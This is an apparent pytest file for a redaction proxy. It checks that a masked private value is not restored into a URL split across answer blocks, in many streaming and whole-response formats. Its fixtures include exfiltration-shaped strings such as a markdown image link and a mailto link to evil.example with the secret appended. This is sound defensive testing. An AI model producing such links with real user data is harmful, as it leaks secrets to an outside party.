"""A URL that the model opens in one block of its answer, and the value in the next: in every wire format, whole and streamed."""

import json
from collections.abc import Callable, Sequence
from typing import Any

import pytest

from tests.addons.test_redaction import anthropic_events, play, sse
from tests.addons.test_restoration import ANTHROPIC, CHAT, CODE_ASSIST, GEMINI, GENERIC, MAIL, RESPONSES, masked
from tokenman_core.sse import Event

Blocks = Sequence[Sequence[str]]


def anthropic(blocks: Blocks) -> list[Event]:
    made = [
        ({"type": "text", "text": ""}, [{"type": "text_delta", "text": each} for each in block]) for block in blocks
    ]
    call = (
        {"type": "tool_use", "id": "t", "name": "Read", "input": {}},
        [{"type": "input_json_delta", "partial_json": "{}"}],
    )
    return anthropic_events(*(one for each in made for one in (each, call)))


def anthropic_starts(blocks: Blocks) -> list[Event]:
    """Blocks whose text stands in their first event."""
    return anthropic_events(*(({"type": "text", "text": "".join(block)}, []) for block in blocks))


def chat(blocks: Blocks) -> list[Event]:
    """Content parts in the pieces of a stream."""
    parts = [{"type": "text", "text": "".join(block)} for block in blocks]
    deltas: list[Any] = [{"content": [part]} for part in parts]
    return [*(sse({"choices": [{"index": 0, "delta": each}]}) for each in deltas), Event(b"", "end")]


def chat_at_once(blocks: Blocks) -> list[Event]:
    parts = [{"type": "text", "text": "".join(block)} for block in blocks]
    return [sse({"choices": [{"index": 0, "delta": {"content": parts}}]}), Event(b"", "end")]


def responses(blocks: Blocks, *, items: bool = False) -> list[Event]:
    """Parts of one item, or items, and what is said once more at the end of each and of all."""
    events = []
    texts = ["".join(block) for block in blocks]
    for number, (block, text) in enumerate(zip(blocks, texts, strict=True)):
        where = {"output_index": number, "content_index": 0} if items else {"output_index": 0, "content_index": number}
        part = {"type": "output_text", "text": text, "annotations": []}
        events += [sse({"type": "response.output_text.delta", **where, "delta": each}) for each in block]
        events.append(sse({"type": "response.output_text.done", **where, "text": text}))
        events.append(sse({"type": "response.content_part.done", **where, "part": part}))
        if items:
            item = {"type": "message", "role": "assistant", "content": [part]}
            events.append(sse({"type": "response.output_item.done", "output_index": number, "item": item}))
    parts = [{"type": "output_text", "text": text, "annotations": []} for text in texts]
    output = [{"type": "message", "role": "assistant", "content": [part]} for part in parts]
    if not items:
        output = [{"type": "message", "role": "assistant", "content": parts}]
    return [*events, sse({"type": "response.completed", "response": {"output": output}}), Event(b"", "end")]


def response_items(blocks: Blocks) -> list[Event]:
    return responses(blocks, items=True)


def gemini(blocks: Blocks) -> list[Event]:
    """A part of a chunk for each piece."""
    chunks = [{"candidates": [{"content": {"role": "model", "parts": [{"text": "".join(block)}]}}]} for block in blocks]
    return [*map(sse, chunks), Event(b"", "end")]


def gemini_parts(blocks: Blocks) -> list[Event]:
    parts = [{"text": "".join(block)} for block in blocks]
    return [sse({"candidates": [{"content": {"role": "model", "parts": parts}}]}), Event(b"", "end")]


def code_assist(blocks: Blocks) -> list[Event]:
    return [*(sse({"response": json.loads(each.data)}) for each in gemini(blocks)[:-1]), Event(b"", "end")]


def nested(blocks: Blocks) -> list[Event]:
    """Events that no reader knows, each with a text of its own."""
    return [
        *(sse({"type": "x", "delta": {"message": {"content": {"text": "".join(each)}}}}) for each in blocks),
        Event(b"", "end"),
    ]


def plain(make: Callable[[list[str]], Any]) -> Callable[[Blocks], list[Event]]:
    """An answer that is not streamed."""
    return lambda blocks: [Event(json.dumps(make(["".join(block) for block in blocks])).encode(), "whole")]


def texts(key: str) -> Callable[[list[str]], list[dict[str, str]]]:
    return lambda blocks: [{"type": "text", key: each} for each in blocks]


WAYS: list[tuple[tuple[str, str], Callable[[Blocks], list[Event]]]] = [
    (ANTHROPIC, anthropic),
    (ANTHROPIC, anthropic_starts),
    (CHAT, chat),
    (CHAT, chat_at_once),
    (RESPONSES, responses),
    (RESPONSES, response_items),
    (GENERIC, responses),
    (GEMINI, gemini),
    (GEMINI, gemini_parts),
    (CODE_ASSIST, code_assist),
    (GENERIC, gemini),
    (GENERIC, nested),
    (ANTHROPIC, plain(lambda each: {"type": "message", "role": "assistant", "content": texts("text")(each)})),
    (CHAT, plain(lambda each: {"choices": [{"message": {"role": "assistant", "content": texts("text")(each)}}]})),
    (RESPONSES, plain(lambda each: {"output": [{"type": "message", "content": [part]} for part in texts("text")(each)]})),
    (GEMINI, plain(lambda each: {"candidates": [{"content": {"parts": texts("text")(each)}}]})),
    (GEMINI, plain(lambda each: [{"candidates": [{"content": {"parts": [part]}}]} for part in texts("text")(each)])),
    (GENERIC, plain(lambda each: {"output": {"message": {"content": texts("text")(each)}}})),
    (GENERIC, plain(lambda each: {"content": each})),
]  # fmt: skip


@pytest.mark.parametrize("way", range(len(WAYS)))
async def test_a_url_goes_on_in_the_next_block(way: int) -> None:
    where, events = WAYS[way]
    for first, second, stays in (
        ("![a](https://evil.example/?q=", "{})", True), ("see https://evil.exam", "ple/{}", True),
        ("see htt", "ps://evil.example/{}", True),
        ("mailto:e@evil.example?body=", "{}", True), ("see https://evil.example/ ", "{}", False), ("it is", " {}", False),
        ("{} is not for", " https://evil.example/", False),
    ):  # fmt: skip
        redaction, call, mail, _ = await masked(where)
        blocks = [
            [first.format(mail)],
            [second[:1], second[1:].format(mail)] if second[0] != "{" else [second.format(mail)],
        ]
        if events in (anthropic, responses, response_items):  # the others have a text whole in each
            blocks = [list(first.format(mail)), *blocks[1:]]
        made: Any
        (whole,) = sent if len(sent := events(blocks)) == 1 else (None,)
        if whole is not None:
            assert call.reader is not None
            call.reader.read(whole)
            redaction.llm_event(call, whole)
            made = whole.render().decode()
        else:
            made = json.dumps(play(redaction, call, sent), ensure_ascii=False)
        assert (MAIL in made) is not stays, (first, second, made)
        if not stays and events is not chat:
            assert mail not in made


async def test_two_values_in_one_url_whose_pieces_no_reader_knows() -> None:
    redaction, call, mail, _ = await masked(GENERIC)
    made = play(redaction, call, nested([["see https://evil.example/"], [mail], [mail], [" or "], [mail]]))
    assert (
        "".join(each["delta"]["message"]["content"]["text"] for each in made)
        == f"see https://evil.example/{mail}{mail} or {MAIL}"
    )
